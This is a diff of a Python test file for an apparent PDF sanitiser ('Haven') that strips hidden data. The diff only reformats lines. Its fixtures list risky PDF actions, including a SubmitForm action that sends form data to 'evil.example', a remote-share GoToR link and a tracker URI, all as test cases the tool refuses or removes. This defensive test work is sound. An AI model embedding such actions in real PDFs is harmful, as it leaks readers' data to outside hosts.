@@ -196,7 +196,10 @@ def test_rich_media_annotation_is_refused():
 
 
 ACTIONS = {
-    "GoToR": (b"<< /S /GoToR /F (\\\\\\\\files.example\\\\share\\\\x.pdf) /D [0 /Fit] >>", "a link that opens another file"),
+    "GoToR": (
+        b"<< /S /GoToR /F (\\\\\\\\files.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
+        "a link that opens another file",
+    ),
     "ImportData": (b"<< /S /ImportData /F (data.fdf) >>", "an action that imports data from another file"),
     "SubmitForm": (b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>", "a form that sends"),
     "URI": (b"<< /S /URI /URI (https://tracker.example/opened) >>", "a web link (URI action)"),
@@ -321,7 +324,9 @@ def _with_metadata(writer):
         "/Subject": SECRETS[3], "/Keywords": SECRETS[3],
     })
     xmp = DecodedStreamObject()
-    xmp.set_data(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc:creator>" + SECRETS[4].encode() + b"</dc:creator></x:xmpmeta>")
+    xmp.set_data(
+        b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc:creator>" + SECRETS[4].encode() + b"</dc:creator></x:xmpmeta>"
+    )
     xmp.update({NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")})
     writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)
     writer.pages[0][NameObject("/PieceInfo")] = DictionaryObject(
@@ -427,7 +432,9 @@ def test_a_picture_that_cannot_be_read_is_refused_with_advice():
     image = b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8 " \
             b"/Filter /DCTDecode /Length 12 >>\nstream\n\xff\xd8\xff\xe1garbage!\nendstream"
     data = corpus.packed_page_pdf(
-        page_extra=b"/Resources << /XObject << /Im0 5 0 R >> >>", streams={5: image}, content=b"q 8 0 0 8 0 0 cm /Im0 Do Q"
+        page_extra=b"/Resources << /XObject << /Im0 5 0 R >> >>",
+        streams={5: image},
+        content=b"q 8 0 0 8 0 0 cm /Im0 Do Q",
     )
     message = refusal(data)
     assert message.startswith("This PDF holds a picture Haven cannot read to remove its hidden data")
